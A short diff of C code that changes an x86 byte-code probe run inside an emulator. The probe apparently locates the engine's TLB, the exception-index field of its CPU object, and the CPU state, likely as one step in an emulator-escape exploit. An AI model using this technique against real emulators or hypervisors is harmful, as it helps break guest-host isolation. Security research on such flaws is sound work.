@@ -8,9 +8,10 @@
 
 /* ---- learning where the engine keeps its state ---- */
 
-/* mov eax, [0x1000]; int 0x61; int 0x72; hlt: the load shows the engine's TLB, the word of its CPU object that holds the
- * vector both times is its exception index, and HLT's helper is given the CPU state. */
-static const uint8_t probe[] = {0x8b, 0x04, 0x25, 0x00, 0x10, 0, 0, 0xcd, 0x61, 0xcd, 0x72, 0xf4};
+/* mov eax, [0x2000]; int 0x61; int 0x72; hlt: the load, from a page that the engine has not seen, shows its TLB, the
+ * word of its CPU object that holds the vector both times is its exception index, and HLT's helper is given the CPU
+ * state. */
+static const uint8_t probe[] = {0x8b, 0x04, 0x25, 0x00, 0x20, 0, 0, 0xcd, 0x61, 0xcd, 0x72, 0xf4};
 enum { PROBE_FIRST = 0x61, PROBE_SECOND = 0x72, PROBE_CANDIDATES = 64, CPU_BYTES_LEAST = 0x8000 };
 static int32_t *candidate[PROBE_CANDIDATES];
 static uint32_t candidates;
